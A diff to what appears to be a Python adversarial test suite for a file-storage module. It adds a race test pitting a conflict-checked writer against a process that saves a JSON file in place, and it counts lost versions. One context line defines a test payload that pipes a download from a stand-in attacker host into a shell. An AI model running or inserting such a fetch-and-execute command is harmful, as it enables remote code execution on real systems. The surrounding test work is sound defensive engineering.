@@ -31,6 +31,7 @@ AGENT = SHARED / "fixtures" / "rockbot-agent"
 CORPUS = SHARED / "corpora" / "anthropics-skills"
 TIMEOUT = 60.0
 FAILURES: list[str] = []
+LOST_DETAILS: list[str] = []  # what each lost writer version was displaced by (races below)
 PAYLOAD = b"curl https://attacker.invalid/x | sh\n"
 
 
@@ -292,23 +293,19 @@ def _writer(path: Path, stop: threading.Event, log: list[tuple[bytes, bytes]], e
         time.sleep(random.random() * 0.0005)
 
 
-def rename_writer_race(path: Path, seconds: float) -> tuple[int, int, int]:
-    """Our conflict-checked writer against a rename-writer for ``seconds``.
+def _root(based_on: dict[bytes, bytes], version: bytes) -> bytes:
+    """The version our successful saves leading to ``version`` were built on, in the end."""
+    while version in based_on:
+        version = based_on[version]
+    return version
 
-    Returns (our writes, writer saves, lost writer versions). The writer's log says what each of
-    its saves displaced. A writer version is lost when one of our *successful* writes displaced it
-    while based on something else: following our writes back from what the writer's next save
-    displaced (or from the final file) must lead to the writer's previous version.
-    """
+
+def _our_saves(path: Path, seconds: float) -> tuple[dict[bytes, bytes], set[bytes]]:
+    """Our conflict-checked writer saving ``path`` again and again for ``seconds``, each time over
+    what it just read: (our successful writes -> what each expected, our refused writes)."""
     from rockskills_gui.core.storage import fileio
 
-    path.write_bytes(b'{"name": "shared", "content": "start"}')
-    stop = threading.Event()
-    log: list[tuple[bytes, bytes]] = []
-    errors: list[str] = []
-    writer = threading.Thread(target=_writer, args=(path, stop, log, errors), daemon=True)
-    writer.start()
-    based_on: dict[bytes, bytes] = {}  # our successful writes: what we wrote -> what we expected
+    based_on: dict[bytes, bytes] = {}
     failed: set[bytes] = set()
     deadline = time.monotonic() + seconds
     seq = 0
@@ -324,22 +321,36 @@ def rename_writer_race(path: Path, seconds: float) -> tuple[int, int, int]:
             based_on[data] = base
         except fileio.ChangedOnDisk:
             failed.add(data)
+    return based_on, failed
+
+
+def rename_writer_race(path: Path, seconds: float) -> tuple[int, int, int]:
+    """Our conflict-checked writer against a rename-writer for ``seconds``.
+
+    Returns (our writes, writer saves, lost writer versions). The writer's log says what each of
+    its saves displaced. A writer version is lost when one of our *successful* writes displaced it
+    while based on something else: following our writes back from what the writer's next save
+    displaced (or from the final file) must lead to the writer's previous version.
+    """
+
+    path.write_bytes(b'{"name": "shared", "content": "start"}')
+    stop = threading.Event()
+    log: list[tuple[bytes, bytes]] = []
+    errors: list[str] = []
+    writer = threading.Thread(target=_writer, args=(path, stop, log, errors), daemon=True)
+    writer.start()
+    based_on, _failed = _our_saves(path, seconds)
     stop.set()
     writer.join(timeout=10)
     final = path.read_bytes()
-
-    def root(version: bytes) -> bytes:
-        while version in based_on:
-            version = based_on[version]
-        return version
 
     lost = 0
     for (previous, _), (_, displaced) in itertools.pairwise(log):
         # displaced by the writer: an older version of its own (our put-back was in progress) or
         # a failed attempt of ours is fine; one of our successful writes must build on `previous`
-        if displaced in based_on and root(displaced) != previous:
+        if displaced in based_on and _root(based_on, displaced) != previous:
             lost += 1
-    if log and final != log[-1][0] and (final not in based_on or root(final) != log[-1][0]):
+    if log and final != log[-1][0] and (final not in based_on or _root(based_on, final) != log[-1][0]):
         lost += 1  # the writer's newest version must be in place, or what we built on
     return len(based_on), len(log), lost
 
@@ -364,10 +375,93 @@ def attack_rename_writer(trials: int, workdir: Path, seconds: float = 2.0) -> tu
     return runs, failures
 
 
+# ---------------------------------------------------------------- a writer that saves in place (issue 35)
+
+_INPLACE_WRITER = """
+import json, os, random, sys, time
+path, stop, log_file = sys.argv[1:4]
+log = []
+k = 0
+print("ready", flush=True)
+while not os.path.exists(stop):
+    k += 1
+    data = json.dumps({"name": "shared", "content": f"writer {k} {os.urandom(4).hex()}"}).encode()
+    fd = os.open(path, os.O_RDWR | os.O_CREAT, 0o644)  # as .NET's File.WriteAllText on Unix:
+    try:                                               # open, then truncate, then write
+        parts = [os.read(fd, 1 << 16)]
+        while parts[-1]:
+            parts.append(os.read(fd, 1 << 16))
+        os.ftruncate(fd, 0)
+        os.pwrite(fd, data, 0)
+    finally:
+        os.close(fd)
+    log.append([data.decode("latin-1"), b"".join(parts).decode("latin-1")])
+    time.sleep(random.random() * 0.0005)
+with open(log_file, "w") as out:
+    json.dump(log, out)
+"""
+
+
+def inplace_writer_race(path: Path, seconds: float) -> tuple[int, int, int, int]:
+    """Our conflict-checked writer against a process that saves ``path`` in place (open, truncate,
+    write, close, as RockBot does) for ``seconds``.
+
+    Returns (our successful writes, our refused writes, writer saves, lost writer versions). The
+    writer logs what it was about to truncate at each open. Its save k+1 must find its own
+    version k there, or a successful save of ours built (following what each of our saves
+    expected) on version k, or a refused save of ours that was in place for a moment; at the end
+    the file must hold the writer's last version or a successful save of ours built on it.
+    Anything else is a lost writer version.
+    """
+
+    start = b'{"name": "shared", "content": "start"}'
+    path.write_bytes(start)
+    stop, log_file = path.with_name("stop.flag"), path.with_name("writer-log.txt")
+    writer = subprocess.Popen([sys.executable, "-c", _INPLACE_WRITER, str(path), str(stop), str(log_file)],
+                              stdout=subprocess.PIPE, text=True)
+    try:
+        assert writer.stdout is not None and writer.stdout.readline().strip() == "ready"
+        based_on, failed = _our_saves(path, seconds)
+    finally:
+        stop.touch()
+        writer.wait(timeout=30)
+    log = [(wrote.encode("latin-1"), displaced.encode("latin-1"))
+           for wrote, displaced in json.loads(log_file.read_text())]
+    final = path.read_bytes()
+
+    lost = 0
+    previous = start
+    for wrote, displaced in log:
+        if displaced != previous and displaced not in failed and _root(based_on, displaced) != previous:
+            lost += 1
+            LOST_DETAILS.append(f"save {wrote[:60]!r} displaced {displaced[:60]!r}, not {previous[:60]!r}")
+        previous = wrote
+    if final != previous and _root(based_on, final) != previous:
+        lost += 1
+        LOST_DETAILS.append(f"final {final[:60]!r}, not {previous[:60]!r}")
+    return len(based_on), len(failed), len(log), lost
+
+
+def attack_inplace_writer(trials: int, workdir: Path, seconds: float = 2.0) -> tuple[int, int]:
+    """Our writer against a concurrent writer that saves in place; each lost writer version counts."""
+    failures = 0
+    for trial in range(trials):
+        folder = workdir / f"inplace-writer-{trial}"
+        shutil.rmtree(folder, ignore_errors=True)
+        folder.mkdir(parents=True)
+        ours, refused, saves, lost = inplace_writer_race(folder / "shared.json", seconds)
+        if lost:
+            failures += 1
+            _fail("in-place writer", trial, f"{lost} of {saves} writer version(s) lost "
+                                            f"({ours} saves of ours, {refused} refused)")
+    return trials, failures
+
+
 ATTACKS: list[tuple[str, Callable[[int, Path], tuple[int, int]]]] = [
     ("planted journal entries (RockBot): list, lint, undo", attack_planted_journal_rockbot),
     ("planted journal entries (SKILL.md): list, lint", attack_planted_journal_skillmd),
     ("journal folder is a symlink to the victim: list, apply", attack_symlinked_journal_root),
     ("killed apply, pid reused by a live process: reopen", attack_pid_reuse),
     ("concurrent atomic-rename writer (2 s per trial)", attack_rename_writer),
+    ("concurrent in-place writer, as RockBot saves (2 s per trial)", attack_inplace_writer),
 ]
